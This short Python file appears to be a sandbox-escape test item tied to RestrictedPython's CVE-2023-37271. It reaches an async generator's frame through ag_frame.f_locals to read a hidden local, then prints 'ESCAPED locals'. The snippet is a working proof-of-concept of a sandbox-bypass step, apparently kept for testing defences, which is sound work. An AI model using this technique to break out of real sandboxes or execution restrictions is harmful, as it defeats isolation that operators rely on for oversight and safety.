# technique: ag_frame
# goal: frames
# source: RestrictedPython, CVE-2023-37271
async def f():
    hidden = 42
    yield hidden


me = f()
step = me.asend(None)
try:
    step.send(None)
except StopIteration:
    pass
if me.ag_frame.f_locals['hidden'] == 42:
    print('ESCAPED locals')
